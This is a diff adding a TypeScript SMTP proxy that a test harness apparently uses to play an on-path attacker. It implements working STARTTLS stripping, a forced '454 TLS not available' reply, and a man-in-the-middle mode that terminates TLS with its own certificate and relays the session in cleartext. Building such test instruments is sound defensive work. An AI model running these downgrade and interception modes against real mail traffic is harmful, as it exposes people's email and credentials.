@@ -1,0 +1,123 @@
+// The on-path attacker: a small SMTP proxy run inside the attacker's network namespace, on the
+// case addresses it has taken over on the link. It is a test instrument, not a product under test.
+// Modes (one per listening address, from the config file given as argv[2]):
+//   strip-tls     relay everything, but remove STARTTLS from the EHLO answer (StripTLS)
+//   starttls-454  relay everything, but answer STARTTLS with "454 4.7.0 TLS not available"
+//   mitm          answer STARTTLS itself with its own certificate, and relay the decrypted
+//                 session to the real server in cleartext
+// It logs every session and command verb to stdout (the attacker's log, kept as evidence).
+import { readFileSync } from "node:fs";
+import { connect, createServer, type Socket } from "node:net";
+import { TLSSocket } from "node:tls";
+
+export type ProxyMode = "strip-tls" | "starttls-454" | "mitm";
+
+export interface ProxyListener {
+  listen: string; // address the attacker took over
+  upstream: string; // the real receiver's address for this case
+  mode: ProxyMode;
+  keyPem?: string; // mitm: the attacker's key and certificate
+  certPem?: string;
+}
+
+const log = (s: string) => process.stdout.write(`${new Date().toISOString()} ${s}\n`);
+
+/** Line-oriented relay from client to server with a hook that may rewrite or answer a line. */
+function pipeLines(from: Socket | TLSSocket, onLine: (line: string) => boolean): void {
+  let buf = "";
+  from.on("data", (chunk: Buffer) => {
+    buf += chunk.toString("latin1");
+    let i: number;
+    while ((i = buf.indexOf("\n")) >= 0) {
+      const line = buf.slice(0, i + 1);
+      buf = buf.slice(i + 1);
+      if (!onLine(line)) return;
+    }
+  });
+}
+
+function session(client: Socket, l: ProxyListener): void {
+  const peer = `${client.remoteAddress}:${client.remotePort}`;
+  log(`${l.listen} ${l.mode}: connection from ${peer}, relaying to ${l.upstream}:25`);
+  const server = connect(25, l.upstream);
+  let c: Socket | TLSSocket = client;
+  const close = () => {
+    client.destroy();
+    server.destroy();
+  };
+  client.on("error", close);
+  server.on("error", close);
+  client.on("close", close);
+  server.on("close", close);
+  // Server -> client: remove STARTTLS from the EHLO answer (strip-tls and mitm hide nothing,
+  // but strip-tls must, so the sender believes the server has no TLS).
+  server.on("data", (chunk: Buffer) => {
+    let text = chunk.toString("latin1");
+    if (l.mode === "strip-tls" && /^250[ -]STARTTLS\r?\n/im.test(text)) {
+      text = text.replace(/^250([ -])STARTTLS\r?\n/gim, "");
+      // The last line of a multi-line reply must use a space.
+      text = text.replace(/^250-(.*\r?\n)$/m, "250 $1");
+      log(`${l.listen}: removed STARTTLS from the EHLO answer`);
+    }
+    if (l.mode === "mitm" && c === client && /^250[ -]/m.test(text) && !/STARTTLS/i.test(text))
+      text = text.replace(/^250 (.*\r?\n)$/m, "250-$1250 STARTTLS\r\n");
+    c.write(Buffer.from(text, "latin1"));
+  });
+  const onClientLine = (line: string): boolean => {
+    const verb = line.trim().split(/\s/)[0]?.toUpperCase() ?? "";
+    log(`${l.listen}: client ${verb}`);
+    if (verb === "STARTTLS" && l.mode === "starttls-454") {
+      c.write("454 4.7.0 TLS not available\r\n");
+      return true;
+    }
+    if (verb === "STARTTLS" && l.mode === "mitm") {
+      c.write("220 2.0.0 Ready to start TLS\r\n");
+      client.removeAllListeners("data");
+      const tls = new TLSSocket(client, { isServer: true, key: l.keyPem, cert: l.certPem });
+      tls.on("secure", () => log(`${l.listen}: terminated TLS with the attacker's certificate`));
+      tls.on("error", (e) => {
+        log(`${l.listen}: TLS with the client failed: ${e.message}`);
+        close();
+      });
+      c = tls;
+      pipeLines(tls, onClientLine);
+      return false;
+    }
+    server.write(line, "latin1");
+    return true;
+  };
+  pipeLines(client, onClientLine);
+}
+
+export function startProxy(listeners: ProxyListener[]): Promise<void> {
+  return Promise.all(
+    listeners.map(
+      (l) =>
+        new Promise<void>((resolve, reject) => {
+          const srv = createServer((s) => session(s, l));
+          srv.once("error", reject);
+          srv.listen(25, l.listen, () => {
+            log(`listening on ${l.listen}:25 (${l.mode} -> ${l.upstream})`);
+            resolve();
+          });
+        }),
+    ),
+  ).then(() => undefined);
+}
+
+if (process.argv[1]?.endsWith("smtp-proxy.ts")) {
+  const file = process.argv[2];
+  if (!file) {
+    console.error("usage: smtp-proxy.ts <config.json>");
+    process.exit(2);
+  }
+  const listeners = JSON.parse(readFileSync(file, "utf8")) as ProxyListener[];
+  startProxy(listeners).then(
+    () => log("ready"),
+    (e: Error) => {
+      log(`cannot listen: ${e.message}`);
+      process.exit(1);
+    },
+  );
+  process.on("SIGTERM", () => process.exit(0));
+}
